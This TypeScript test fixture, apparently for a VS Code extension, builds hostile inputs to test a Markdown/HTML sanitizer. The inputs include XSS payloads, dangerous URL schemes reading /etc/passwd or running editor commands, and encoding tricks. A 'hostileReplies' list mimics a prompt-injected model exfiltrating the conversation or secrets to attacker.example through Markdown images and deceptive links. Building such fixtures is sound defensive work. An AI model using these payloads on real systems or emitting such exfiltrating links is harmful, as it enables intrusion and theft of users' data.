/** Where a vector would call home. */
export const attacker = 'attacker.example';

const home = `http://${attacker}/`;

const pairs = <A, B>(one: readonly A[], other: readonly B[]): readonly [A, B][] =>
  one.flatMap((a) => other.map((b): [A, B] => [a, b]));

/** Schemes that run, read or start something; only the web and mail are not among them. */
const schemes = [
  'javascript:alert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
  'command:workbench.action.terminal.new',
  'command:mistralGuard.copyKey?%5B%22main%22%5D',
  'vscode://mistral-guard.mistral-guard/run',
  'vscode-insiders://file/etc/passwd',
  'vscode-webview://x/index.html',
  'vscode-resource:/etc/passwd',
  'file:///etc/passwd',
  'blob:https://webview.test/1',
  'about:blank',
  'view-source:https://webview.test',
  'ftp://attacker.example/x',
  'ws://attacker.example/x',
  'ms-settings:privacy',
  'ssh://-oProxyCommand=touch/x',
  '//attacker.example/x',
  '/etc/passwd',
];

/** The same address, written so that a filter reads one thing and a browser another. */
const disguises: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => address.toUpperCase(),
  (address) => ` \t${address}`,
  (address) => `\u0001${address}`,
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(/^./, (first) => `&#x${first.charCodeAt(0).toString(16)};`),
  (address) => address.replace(/^(..)/, '$1&Tab;'),
  (address) => address.replace(/^(..)/, '$1&NewLine;'),
  (address) => address.replace(':', '%3A'),
  (address) => `https:@@${address}`,
];

const links: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}> "title")`,
  (address) => `<${address}>`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `![x](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => address,
];

/** HTML that would run or load; each of them in each of the places below. */
const html = [
  '<script>alert(1)</script>',
  `<script src=${home}x.js></script>`,
  `<img src=${home}a.png onerror=alert(1)>`,
  `<img srcset="${home}b.png 2x">`,
  `<svg onload=alert(1)><image href=${home}c.svg></svg>`,
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  `<iframe src=${home}></iframe>`,
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<object data=${home}></object>`,
  `<embed src=${home}>`,
  `<link rel=stylesheet href=${home}s.css>`,
  `<link rel=dns-prefetch href=//${attacker}>`,
  `<style>@import url(${home}t.css);</style>`,
  `<div style="background:url(${home}d.png)">x</div>`,
  `<form action=${home} method=post><input name=q value=secret><button>Go</button></form>`,
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  `<video poster=${home}v.png><source src=${home}v.mp4 onerror=alert(1)></video>`,
  `<audio src=${home}a.mp3 onerror=alert(1)>`,
  `<base href=${home}>`,
  `<meta http-equiv=refresh content="0;url=${home}">`,
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="command:workbench.action.quit">x</a>',
  `<a href=${home} ping=${home}p onclick=alert(1)>x</a>`,
  '<button formaction=javascript:alert(1)>x</button>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x onclick=alert(1) contenteditable>x</x>',
  '<img id=markdown name=getElementById>',
  '<!--><img src onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  `"><img src=${home}q.png>`,
];

const places: readonly ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `text ${inner} text`,
  (inner) => `# ${inner}`,
  (inner) => `> - ${inner}`,
  (inner) => `| a | b |\n|---|---|\n| ${inner} | ${inner} |`,
  (inner) => `[${inner}](https://example.com "${inner}")`,
  (inner) => `![${inner}](https://${attacker}/i.png "${inner}")`,
  (inner) => `\`${inner}\``,
  (inner) => `\`\`\`${inner}\n${inner}\n\`\`\``,
  (inner) => `\`\`\`html\n${inner}\n\`\`\``,
  (inner) => `- [ ] ${inner}`,
  (inner) => `$${inner}$ and $$${inner}$$`,
  (inner) => `[r]\n\n[r]: https://example.com "${inner}"`,
];

/** What a model says that was told to carry something away. */
const hostileReplies = [
  `![](https://${attacker}/?q=the-whole-conversation)`,
  `![a][b]\n\n[b]: https://${attacker}/?q=secret`,
  `[Sign in again](https://bank.example@${attacker}/)`,
  `[https://bank.example](https://${attacker}/)`,
  `<https://${attacker}/?q=secret>`,
  `Click [here](command:mistralGuard.deleteKey) or <command:mistralGuard.lock>`,
  `\`\`\`" onmouseover="alert(1)\nx\n\`\`\``,
  `\`\`\`command:x\nx\n\`\`\``,
  `1000000000000. x\n\n0. ${'<script>'.repeat(200)}`,
  'const ok = true; /*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */',
  `${'[x]('.repeat(500)}javascript:alert(1)${')'.repeat(500)}`,
];

export const vectors: readonly string[] = [
  ...pairs(pairs(schemes, disguises), links).map(([[scheme, disguise], link]) => link(disguise(scheme))),
  ...pairs(html, places).map(([markup, place]) => place(markup)),
  ...hostileReplies,
];
